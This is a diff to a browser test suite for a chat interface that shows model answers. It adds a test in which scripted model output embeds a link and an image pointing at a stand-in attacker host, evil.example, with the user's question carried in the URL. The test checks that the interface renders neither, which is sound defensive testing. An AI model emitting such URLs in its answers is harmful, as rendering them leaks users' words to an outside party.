@@ -168,7 +168,18 @@ def test_a_hostile_message_of_the_service_is_shown_as_it_was_written(visit: Visi
 
 def test_a_link_opens_in_a_new_tab_without_a_referrer(generated_visit: Visit, model: ModelServer) -> None:
     model.script = Script(pieces=("See [the map](https://garden.example/map?x=1) [1].",))
-    link = generated_visit.ask(HEMLOCK).shown.locator(".prose a")
+    link = generated_visit.ask("When does the garden open, and where is the map?").shown.locator(".prose a")
     expect(link).to_have_attribute("href", "https://garden.example/map?x=1")
     expect(link).to_have_attribute("target", "_blank")
     expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
+
+
+def test_an_address_that_no_source_has_is_no_link_and_no_image_is_loaded(
+    generated_visit: Visit, model: ModelServer
+) -> None:
+    foreign = "https://evil.example/?said=Where+does+the+hemlock+grow"
+    model.script = Script(pieces=(f"See [the map]({foreign}), ![a]({foreign}) or {foreign} [1].",))
+    prose = generated_visit.ask(HEMLOCK).shown.locator(".prose")
+    expect(prose).to_contain_text(f"the map ({foreign})")
+    expect(prose.locator("a, img")).to_have_count(0)
+    expect_harmless(generated_visit)
